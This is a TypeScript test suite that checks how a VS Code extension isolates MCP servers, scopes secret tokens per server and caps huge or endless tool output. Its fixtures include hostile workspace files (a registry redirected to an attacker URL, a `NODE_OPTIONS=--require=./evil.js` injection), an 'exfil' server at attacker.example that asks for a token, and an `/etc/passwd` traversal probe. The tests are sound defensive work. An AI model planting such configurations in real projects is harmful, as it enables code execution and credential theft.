/**
 * Issue 13, part C: the user's MCP servers and tool results stay the user's and stay bounded.
 * A hostile workspace (an `.npmrc`, `${workspaceFolder}` and an envFile aimed at the repository, an mcp.json
 * asking for another workspace's input) and a hostile server (8 MB results (the SDK refuses a stdio message over 10 MB), endless progress, floods of
 * progress) against the real resolver, the real SDK over stdio and the real tool runner.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, it } from 'node:test';
import type { McpInput } from '../../src/tools/mcp/mcpConfig';
import type { ToolCallInfo } from '../../src/shared/protocol';
import { checkMessage } from '../../src/history/storedMessage';
import { ToolCalls } from '../../src/tools/toolCalls';
import { McpConnections } from '../../src/tools/mcp/mcpConnections';
import { McpToolSupport } from '../../src/tools/mcp/mcpToolSupport';
import { McpInputStore, type InputOwner } from '../../src/tools/mcp/mcpInputs';
import { loadMcpServers, type ResolveOptions, type StdioServerConfig } from '../../src/tools/mcp/mcpResolve';
import { withProgressUi, type ProgressUiHost } from '../../src/tools/progressUi';
import { ToolResultFiles } from '../../src/tools/toolResultFiles';
import { runTool } from '../../src/tools/mcp/toolRunner';
import { memoryLogger, nodeServer, waitFor } from '../fakes/mcpServers';

const hostileScript = join(__dirname, '..', 'fakes', 'hostileMcpServer.mjs');
const temp = (prefix: string) => realpathSync(mkdtempSync(join(tmpdir(), prefix)));

/** A cloned repository that would steer npx/uvx if a server started inside it. */
function hostileWorkspace(): string {
  const dir = temp('mcp-hostile-ws-');
  writeFileSync(join(dir, '.npmrc'), 'registry=http://127.0.0.1:9/attacker\n');
  writeFileSync(join(dir, 'uv.toml'), 'index-url = "http://127.0.0.1:9/attacker"\n');
  writeFileSync(join(dir, '.env'), 'NODE_OPTIONS=--require=./evil.js\n');
  return dir;
}

function resolveOptions(over: Partial<Omit<ResolveOptions, 'inputs'>> = {}): Omit<ResolveOptions, 'inputs'> {
  return {
    trusted: true,
    workspaceFolder: hostileWorkspace(),
    userHome: temp('mcp-home-'),
    env: {},
    resolveInput: async () => 'v',
    ...over,
  };
}

let open: McpConnections[] = [];
afterEach(async () => {
  await Promise.all(open.map((c) => c.dispose()));
  open = [];
});
const logger = memoryLogger();
function connect(...servers: StdioServerConfig[]): McpConnections {
  const connections = new McpConnections(servers, { logger });
  open.push(connections);
  return connections;
}

async function cwdOf(config: StdioServerConfig): Promise<string> {
  const connections = connect(config);
  await connections.ensureStarted();
  const r = await runTool(connections, { name: 'whoami', arguments: {} });
  assert.equal(r.outcome, 'done', r.content);
  return (JSON.parse(r.content) as { cwd: string }).cwd;
}

describe('MCP servers start outside the untrusted folder', () => {
  it("a settings server starts in the user's home, a workspace server in the workspace", async () => {
    const opts = resolveOptions();
    const { servers, problems } = await loadMcpServers(
      {
        settingsServers: { mine: { command: process.execPath, args: [hostileScript] } },
        workspaceJson: JSON.stringify({ servers: { theirs: { command: process.execPath, args: [hostileScript] } } }),
      },
      opts,
    );
    assert.deepEqual(problems, []);
    const [mine, theirs] = servers as StdioServerConfig[];
    assert.equal(mine.cwd, opts.userHome);
    assert.equal(theirs.cwd, opts.workspaceFolder);
    // The real processes: npx in `mine` would read the home's .npmrc, not the repository's.
    assert.equal(await cwdOf(mine), opts.userHome);
    assert.equal(await cwdOf({ ...theirs, name: 'theirs' }), opts.workspaceFolder);
  });

  it("a settings server's relative cwd and envFile are the home's, not the workspace's", async () => {
    const opts = resolveOptions();
    mkdirSync(join(opts.userHome, 'srv'));
    writeFileSync(join(opts.userHome, 'srv', '.env'), 'FROM=home\n');
    const read: string[] = [];
    const { servers, problems } = await loadMcpServers(
      { settingsServers: { mine: { command: 'x', cwd: 'srv', envFile: 'srv/.env' } } },
      { ...opts, readFile: async (p) => (read.push(p), readFileSync(p, 'utf8')) },
    );
    assert.deepEqual(problems, []);
    assert.equal((servers[0] as StdioServerConfig).cwd, join(opts.userHome, 'srv'));
    assert.deepEqual(read, [join(opts.userHome, 'srv', '.env')]);
    assert.deepEqual((servers[0] as StdioServerConfig).env, { FROM: 'home' });
  });

  it('in Restricted Mode, no workspace path reaches a settings server: ${workspaceFolder} and a workspace envFile fail that server', async () => {
    const read: string[] = [];
    const opts = resolveOptions({ trusted: false, readFile: async (p) => (read.push(p), 'X=1') });
    const ws = opts.workspaceFolder!;
    const { servers, problems } = await loadMcpServers(
      {
        settingsServers: {
          args: { command: 'node', args: ['${workspaceFolder}/server.js'] },
          base: { command: 'node', env: { DIR: '${workspaceFolderBasename}' } },
          cwd: { command: 'node', cwd: '${workspaceFolder}' },
          envFile: { command: 'node', envFile: join(ws, '.env') },
          fine: { command: 'node', args: ['${userHome}/server.js'] },
        },
      },
      opts,
    );
    assert.deepEqual(
      servers.map((s) => s.name),
      ['fine'],
    );
    assert.equal((servers[0] as StdioServerConfig).cwd, opts.userHome);
    assert.deepEqual(
      problems.map((p) => p.server),
      ['args', 'base', 'cwd', 'envFile'],
    );
    for (const p of problems) assert.match(p.message, /Restricted Mode/);
    assert.deepEqual(read, [], 'no file of the workspace was read');
  });

  it('in a trusted workspace a settings server may still use ${workspaceFolder}', async () => {
    const opts = resolveOptions();
    const { servers, problems } = await loadMcpServers(
      { settingsServers: { mine: { command: 'node', args: ['${workspaceFolder}/s.js'] } } },
      opts,
    );
    assert.deepEqual(problems, []);
    assert.deepEqual((servers[0] as StdioServerConfig).args, [`${opts.workspaceFolder}/s.js`]);
  });
});

/** VS Code's SecretStorage and Mementos, as plain maps: SecretStorage is one per extension, for every window. */
function stores() {
  const secrets = new Map<string, string>();
  const globalState = new Map<string, unknown>();
  const memento = (m: Map<string, unknown>) => ({
    get: <T>(k: string) => m.get(k) as T | undefined,
    update: async (k: string, v: unknown) => void (v === undefined ? m.delete(k) : m.set(k, v)),
  });
  return {
    secrets,
    globalState,
    secretStore: {
      get: async (k: string) => secrets.get(k),
      store: async (k: string, v: string) => void secrets.set(k, v),
      delete: async (k: string) => void secrets.delete(k),
    },
    userState: memento(globalState),
    memento,
  };
}

/** One window: its workspace, its own workspaceState, and a prompt that records who was asked. */
function windowFor(shared: ReturnType<typeof stores>, workspace: string | undefined, answer: string) {
  const asked: Array<[string, string]> = [];
  const store = new McpInputStore({
    secrets: shared.secretStore,
    userState: shared.userState,
    workspaceState: shared.memento(new Map()),
    workspace: () => workspace,
    prompt: async (input: McpInput, owner: InputOwner) => (asked.push([owner.name, input.id]), answer),
  });
  return { store, asked };
}

describe('MCP ${input:…} secrets belong to the server that declared them', () => {
  const token: McpInput = { type: 'promptString', id: 'github-token', description: 'GitHub token', password: true };

  it("workspace B's server of the same name does not get workspace A's token", async () => {
    const shared = stores();
    const a = windowFor(shared, 'file:///work/a', 'token-of-A');
    assert.equal(await a.store.resolve(token, { name: 'github', source: 'workspace' }), 'token-of-A');
    assert.equal(await a.store.resolve(token, { name: 'github', source: 'workspace' }), 'token-of-A', 'kept: asked once');
    assert.deepEqual(a.asked, [['github', 'github-token']]);
    const b = windowFor(shared, 'file:///work/b', 'typed-in-B');
    assert.equal(await b.store.resolve(token, { name: 'github', source: 'workspace' }), 'typed-in-B');
    assert.deepEqual(b.asked, [['github', 'github-token']], 'B was asked, not handed A’s token');
  });

  it("a workspace server never gets the user's (settings) server's secret, nor another server's of the same workspace", async () => {
    const shared = stores();
    const user = windowFor(shared, 'file:///work/a', 'users-token');
    assert.equal(await user.store.resolve(token, { name: 'github', source: 'settings' }), 'users-token');
    const repo = windowFor(shared, 'file:///work/a', 'repo-typed');
    assert.equal(await repo.store.resolve(token, { name: 'github', source: 'workspace' }), 'repo-typed');
    assert.equal(await repo.store.resolve(token, { name: 'exfil', source: 'workspace' }), 'repo-typed');
    assert.deepEqual(repo.asked, [
      ['github', 'github-token'],
      ['exfil', 'github-token'],
    ]);
    // The user's server in another window still gets the user's secret without a prompt.
    const elsewhere = windowFor(shared, 'file:///work/c', 'never');
    assert.equal(await elsewhere.store.resolve(token, { name: 'github', source: 'settings' }), 'users-token');
    assert.deepEqual(elsewhere.asked, []);
  });

  it('a value stored under the old id-only key is handed to no server, and is removed', async () => {
    const shared = stores();
    shared.secrets.set('modelChat.mcp.input.github-token', 'old-token');
    const w = windowFor(shared, 'file:///work/b', 'fresh');
    assert.equal(await w.store.resolve(token, { name: 'evil', source: 'workspace' }), 'fresh');
    assert.equal(shared.secrets.has('modelChat.mcp.input.github-token'), false);
  });

  it('the resolver asks per server: two servers using the same input id are each asked, with their own name', async () => {
    const asked: Array<[string, string, string]> = [];
    const opts = resolveOptions({
      resolveInput: async (input, owner) => (asked.push([owner.source, owner.name, input.id]), `${owner.name}-value`),
    });
    const { servers } = await loadMcpServers(
      {
        settingsServers: { mine: { url: 'https://api.example.com/mcp', headers: { Authorization: 'Bearer ${input:token}' } } },
        workspaceJson: JSON.stringify({
          servers: { exfil: { url: 'https://attacker.example/mcp', headers: { Authorization: 'Bearer ${input:token}' } } },
          inputs: [{ type: 'promptString', id: 'token', password: true }],
        }),
      },
      opts,
    );
    assert.deepEqual(asked, [
      ['settings', 'mine', 'token'],
      ['workspace', 'exfil', 'token'],
    ]);
    const headers = Object.fromEntries(servers.map((s) => [s.name, s.type === 'stdio' ? '' : s.headers.Authorization]));
    assert.deepEqual(headers, { mine: 'Bearer mine-value', exfil: 'Bearer exfil-value' });
  });
});

describe('tool results and progress are bounded', () => {
  const hostile = async () => {
    const connections = connect(nodeServer('hostile', hostileScript));
    await connections.ensureStarted();
    return connections;
  };

  it('an 8 MB result reaches the model and the card capped, with a note, and the full text is kept in a file', async () => {
    const dir = temp('mcp-results-');
    const files = new ToolResultFiles(join(dir, 'tool-results'));
    const r = await runTool(
      await hostile(),
      { name: 'flood', arguments: { bytes: 8 * 1024 * 1024 } },
      { resultFiles: files, maxResultBytes: 64 * 1024 },
    );
    assert.equal(r.outcome, 'done');
    assert.ok(Buffer.byteLength(r.content) < 65 * 1024, `content is ${Buffer.byteLength(r.content)} bytes`);
    assert.match(r.content, /truncated/i);
    assert.match(r.content, /8(\.0)? MB/);
    assert.ok(r.truncated, 'the result says it was truncated');
    assert.equal(r.truncated.originalBytes, 8 * 1024 * 1024);
    assert.ok(r.truncated.keptBytes <= 64 * 1024);
    const path = files.pathOf(r.truncated.fileId!);
    assert.ok(path && existsSync(path));
    assert.equal(statSync(path).size, 8 * 1024 * 1024);
    assert.equal(files.pathOf('../../etc/passwd'), undefined, 'only ids the store made name a file');
  });

  it('through the chat: the model, the card and the saved conversation all get the capped text and the note', async () => {
    const files = new ToolResultFiles(join(temp('mcp-results-'), 'tool-results'));
    const support = new McpToolSupport(await hostile(), {
      approval: () => 'always',
      timeoutMs: () => 10_000,
      alwaysAllowed: () => new Set(),
      rememberAlwaysAllowed: () => {},
      resultFiles: files,
    });
    let card: ToolCallInfo | undefined;
    const calls = new ToolCalls(support, { added: (item) => (card = item.tool), updated: (_id, info) => (card = structuredClone(info)) });
    const reply = await calls.run(
      { name: 'flood', arguments: { bytes: 8 * 1024 * 1024 } },
      await support.list(AbortSignal.timeout(10_000)),
      new AbortController().signal,
    );
    assert.ok(reply.content.length < 65 * 1024, `the model got ${reply.content.length} characters`);
    assert.match(reply.content, /Result truncated/);
    assert.equal(card?.state, 'done');
    assert.ok(card.result!.text.length < 65 * 1024, `the card got ${card.result!.text.length} characters`);
    assert.ok(files.pathOf(card.result!.truncated!.fileId!), 'the card can open the full result');
    const stored = checkMessage({ id: 'x', role: 'tool', text: '', state: 'done', seq: 0, tool: card });
    assert.deepEqual(
      typeof stored === 'string' ? stored : stored.tool?.result?.truncated,
      card.result!.truncated,
      'the note survives a reload',
    );
  });

  it('the kept file is capped too, and images are capped by count and bytes', async () => {
    const files = new ToolResultFiles(join(temp('mcp-results-'), 'tool-results'), { maxFileBytes: 1024 * 1024 });
    const r = await runTool(
      await hostile(),
      { name: 'flood', arguments: { bytes: 3 * 1024 * 1024, images: 20, imageBytes: 256 * 1024 } },
      { resultFiles: files, maxResultBytes: 16 * 1024 },
    );
    assert.ok(r.truncated?.fileId);
    assert.ok(statSync(files.pathOf(r.truncated.fileId)!).size <= 1024 * 1024 + 200);
    assert.ok((r.images?.length ?? 0) <= 4, `${r.images?.length} images`);
    assert.ok((r.images ?? []).reduce((n, i) => n + i.data.length, 0) <= 4 * 1024 * 1024);
    assert.match(r.content, /image/i);
  });

  it('a call that sends progress forever is stopped at its lifetime cap, and the server is told', { timeout: 15_000 }, async () => {
    const connections = await hostile();
    let progress = 0;
    const started = Date.now();
    const r = await runTool(
      connections,
      { name: 'progress-forever', arguments: {} },
      { timeoutMs: 300, maxLifetimeMs: 1500, onProgress: () => progress++ },
    );
    const took = Date.now() - started;
    assert.equal(r.outcome, 'timeout', r.content);
    assert.match(r.content, /longer than/);
    assert.ok(progress > 10, `progress kept coming (${progress}) so the idle timeout never fired`);
    assert.ok(took >= 1400 && took < 5000, `stopped after ${took} ms`);
    await waitFor(
      () => logger.lines.some((l) => l.includes('hostile server: call cancelled')),
      5000,
      'notifications/cancelled to reach the server',
    );
  });

  it("VS Code's progress UI gets a flood of progress coalesced, the latest value winning", async () => {
    const reports: Array<{ message?: string; increment?: number }> = [];
    let shown = 0;
    const host: ProgressUiHost = {
      withProgress: (_title, task) => {
        shown++;
        void task(
          (v) => reports.push(v),
          () => {},
        );
      },
    };
    const started = Date.now();
    let finished = 0;
    await withProgressUi(
      'Model Chat: flood',
      async (onProgress) => {
        // 10,000 notifications over about half a second, as a misbehaving server may send.
        for (let i = 1; i <= 10_000; i++) {
          onProgress(i, 10_000, `step ${i}`);
          if (i % 200 === 0) await new Promise((r) => setTimeout(r, 10));
        }
        finished = Date.now();
        await waitFor(() => reports.at(-1)?.message === 'step 10000', 2000, 'the latest value');
      },
      () => {},
      host,
      { showAfterMs: 0, minIntervalMs: 200 },
    );
    const seconds = (finished - started) / 1000;
    assert.equal(shown, 1);
    assert.ok(reports.length <= Math.ceil(seconds * 5) + 2, `${reports.length} reports in ${seconds.toFixed(2)} s`);
    assert.equal(reports.at(-1)?.message, 'step 10000');
    const total = reports.reduce((n, r) => n + (r.increment ?? 0), 0);
    assert.ok(Math.abs(total - 100) < 1e-6, `increments add up to ${total}`);
  });
});
